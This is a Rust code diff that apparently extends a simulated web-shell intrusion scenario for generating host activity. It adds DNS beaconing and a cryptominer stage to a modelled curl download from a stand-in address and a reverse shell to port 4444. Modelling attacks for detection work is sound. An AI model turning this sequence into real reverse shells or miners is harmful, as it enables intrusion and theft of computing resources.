@@ -6,6 +6,7 @@
 use super::call::NO_SUCH_FILE;
 use super::files::{CREATE, READ};
 use super::host::Host;
+use super::names;
 use super::process::Task;
 use super::text::Label;
 use super::tools::{self, LIBC, Tool};
@@ -36,6 +37,8 @@ static THROUGH_PAGE: [(&Tool, &str); 8] = [
     (&tools::DF, "-h"),
     (&tools::LS, "/home"),
 ];
+/// The number of commands in the shell that connects back after which a miner runs.
+const MINING_FROM: usize = 8;
 /// The commands that are run in the shell that connects back.
 static IN_SHELL: [(&Tool, &str); 14] = [
     (&tools::W, "-h"),
@@ -71,6 +74,7 @@ impl WebShell {
             return match next {
                 Some(&(tool, argument)) => {
                     run(host, shell, tool, argument);
+                    host.beacon_names(shell, self.done > MINING_FROM);
                     Some(90 * SECOND)
                 }
                 None => {
@@ -144,7 +148,7 @@ fn run(host: &mut Host<'_, '_>, shell: Task, tool: &Tool, argument: &str) {
 /// Downloads the script that connects back.
 fn fetch_script(host: &mut Host<'_, '_>, shell: Task) {
     host.command_with(shell, &tools::CURL, &["-o", SCRIPT], |host, task| {
-        host.resolve_name(task);
+        host.resolve_name(task, names::SCRIPT_HOST);
         let fd = host.socket(task, "AF_INET", "SOCK_STREAM");
         let server = host.internet([198, 51, 100, 23], 8_000);
         host.connect(task, fd, &server, 0);
@@ -164,6 +168,7 @@ fn connect_back(host: &mut Host<'_, '_>, web: &Web) -> Task {
         host.read(shell, SCRIPT);
         let fd = host.socket(shell, "AF_INET", "SOCK_STREAM");
         let intruder = host.internet([198, 51, 100, 23], 4_444);
+        host.control_names(shell);
         host.connect(shell, fd, &intruder, 0);
         for standard in 0..3 {
             host.dup2(shell, fd, standard);
